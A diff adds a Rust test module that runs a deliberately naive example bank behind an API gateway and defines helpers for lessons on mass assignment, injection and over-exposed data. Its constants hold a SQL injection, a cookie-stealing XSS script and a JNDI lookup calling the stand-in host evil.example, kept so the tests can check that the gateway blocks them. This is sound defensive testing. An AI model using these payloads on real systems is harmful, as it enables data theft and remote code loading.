@@ -1,0 +1,231 @@
+//! The example bank's contract lessons, through the real gateway with the
+//! bank's own config (examples/bank): mass assignment, injected payloads in
+//! every location, over-exposed fields and card numbers — each one served by
+//! the naive bank alone, and stopped (or cleaned up) by the gateway.
+//!
+//! This file starts the bank and the gateway and holds the helpers; the
+//! lessons are in `bank/requests.rs` (what may come in) and
+//! `bank/responses.rs` (what may go out).
+
+mod requests;
+mod responses;
+
+use std::net::SocketAddr;
+
+use reqwest::Method;
+use serde_json::{Value, json};
+
+use crate::support::*;
+
+/// The bank example's directory.
+const BANK: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/../../examples/bank");
+
+/// A SQL injection, a script and a JNDI lookup: none may reach the bank.
+const SQLI: &str = "1' UNION SELECT password FROM users--";
+const XSS: &str = "<script>alert(document.cookie)</script>";
+const JNDI: &str = "${jndi:ldap://evil.example/a}";
+
+/// The real bank (trusting `X-Portcullis-Subject`) and the gateway in front of
+/// it with the bank's real config.
+struct Setup {
+    bank: SocketAddr,
+    server: tokio::task::JoinHandle<std::io::Result<()>>,
+    gw: Gateway,
+}
+
+impl Drop for Setup {
+    fn drop(&mut self) {
+        self.server.abort();
+    }
+}
+
+/// The bank's `portcullis.yaml` with its addresses, admin token and identity
+/// provider made the test's; its API (spec, validation, inspection, responses,
+/// CORS, authorization) is kept as it is.
+fn bank_config(bank: SocketAddr) -> String {
+    let real = std::fs::read_to_string(format!("{BANK}/portcullis.yaml")).unwrap();
+    let apis = &real[real
+        .find("\napis:\n")
+        .expect("the bank config lists its APIs")
+        + 1..];
+    for section in ["validation", "responses", "cors", "authorization"] {
+        assert!(
+            apis.contains(&format!("\n    {section}:\n")),
+            "the bank config has `{section}`"
+        );
+    }
+    let apis = apis
+        .replace("spec: openapi.yaml", &format!("spec: {BANK}/openapi.yaml"))
+        .replace(
+            "[policies/bank.cedar]",
+            &format!("[{BANK}/policies/bank.cedar]"),
+        );
+    format!(
+        r#"
+listeners:
+  - address: 127.0.0.1:0
+admin:
+  address: 127.0.0.1:0
+  token: file:admin-token
+audit:
+  file: audit.jsonl
+runtime:
+  watch_config: false
+upstreams:
+  bank:
+    targets: [http://{bank}]
+identity_providers:
+  dev-idp:
+    jwt:
+      issuer: {ISSUER}
+      audiences: [test]
+      algorithms: [ES256]
+      jwks_file: jwks.json
+{apis}"#
+    )
+}
+
+async fn setup() -> Setup {
+    let (bank, server) = portcullis_bank::spawn("127.0.0.1:0".parse().unwrap())
+        .await
+        .unwrap();
+    let gw = gateway_with(&bank_config(bank), &[]).await;
+    Setup { bank, server, gw }
+}
+
+/// Alice, a customer with two accounts.
+fn alice() -> String {
+    token(
+        "u-alice",
+        json!({ "roles": ["customer"], "accounts": ["acc-1001", "acc-1002"] }),
+    )
+}
+
+/// The admin, with a second factor.
+fn admin() -> String {
+    token(
+        "u-admin",
+        json!({ "roles": ["admin"], "amr": ["pwd", "mfa"] }),
+    )
+}
+
+/// Percent-encodes a path, query or cookie value.
+fn enc(s: &str) -> String {
+    let mut out = String::new();
+    for b in s.bytes() {
+        if b.is_ascii_alphanumeric() || b"-_.~".contains(&b) {
+            out.push(char::from(b));
+        } else {
+            out.push_str(&format!("%{b:02X}"));
+        }
+    }
+    out
+}
+
+impl Setup {
+    /// A request through the gateway with a bearer token.
+    fn through(&self, method: Method, path: &str, bearer: &str) -> reqwest::RequestBuilder {
+        client()
+            .request(method, format!("{}{path}", self.gw.url))
+            .bearer_auth(bearer)
+    }
+
+    /// A request to the bank alone, as `subject` (the header it trusts).
+    fn direct(&self, method: Method, path: &str, subject: &str) -> reqwest::RequestBuilder {
+        client()
+            .request(method, format!("http://{}{path}", self.bank))
+            .header("x-portcullis-subject", subject)
+    }
+
+    /// GET on the bank alone: status and JSON.
+    async fn direct_json(&self, path: &str, subject: &str) -> (u16, Value) {
+        let resp = self
+            .direct(Method::GET, path, subject)
+            .send()
+            .await
+            .unwrap();
+        (resp.status().as_u16(), resp.json().await.unwrap())
+    }
+
+    /// A JSON request to the bank alone: status and JSON.
+    async fn direct_send(
+        &self,
+        method: Method,
+        path: &str,
+        subject: &str,
+        body: Value,
+    ) -> (u16, Value) {
+        let resp = self
+            .direct(method, path, subject)
+            .json(&body)
+            .send()
+            .await
+            .unwrap();
+        (resp.status().as_u16(), resp.json().await.unwrap())
+    }
+
+    /// Every account the bank holds, asked of the bank alone (no subject: all).
+    async fn all_accounts(&self) -> Value {
+        let resp = client()
+            .get(format!("http://{}/v2/accounts", self.bank))
+            .send()
+            .await
+            .unwrap();
+        resp.json::<Value>().await.unwrap()["accounts"].clone()
+    }
+
+    /// The audit events of routed requests, newest last.
+    fn events(&self) -> Vec<Value> {
+        self.gw
+            .audit_lines()
+            .into_iter()
+            .filter(|e| e["operation"].is_string())
+            .collect()
+    }
+
+    /// Waits for the `n`th routed request's audit event and returns it.
+    async fn event(&self, n: usize) -> Value {
+        eventually("the audit record", || self.events().len() >= n).await;
+        self.events().swap_remove(n - 1)
+    }
+
+    /// The whole audit log, as text.
+    fn audit_text(&self) -> String {
+        std::fs::read_to_string(self.gw.dir.path().join("audit.jsonl")).unwrap_or_default()
+    }
+}
+
+/// The `errors` of a 400 `invalid-request` problem, as (pointer, detail) pairs;
+/// the problem quotes none of `sent`.
+async fn violations(resp: reqwest::Response, sent: &[&str]) -> Vec<(String, String)> {
+    let doc = assert_problem(resp, 400, "invalid-request").await;
+    let text = doc.to_string();
+    for value in sent {
+        assert!(
+            !text.contains(value),
+            "the problem quotes `{value}`: {text}"
+        );
+    }
+    doc["errors"]
+        .as_array()
+        .unwrap_or_else(|| panic!("a problem with `errors`: {doc}"))
+        .iter()
+        .map(|e| {
+            let s = |k: &str| {
+                e[k].as_str()
+                    .unwrap_or_else(|| panic!("`{k}` in {e}"))
+                    .to_owned()
+            };
+            (s("pointer"), s("detail"))
+        })
+        .collect()
+}
+
+/// The detail of the violation at `pointer`, which must be there.
+fn detail_at<'a>(errors: &'a [(String, String)], pointer: &str) -> &'a str {
+    errors
+        .iter()
+        .find(|(p, _)| p == pointer)
+        .map(|(_, d)| d.as_str())
+        .unwrap_or_else(|| panic!("no violation at {pointer}: {errors:?}"))
+}
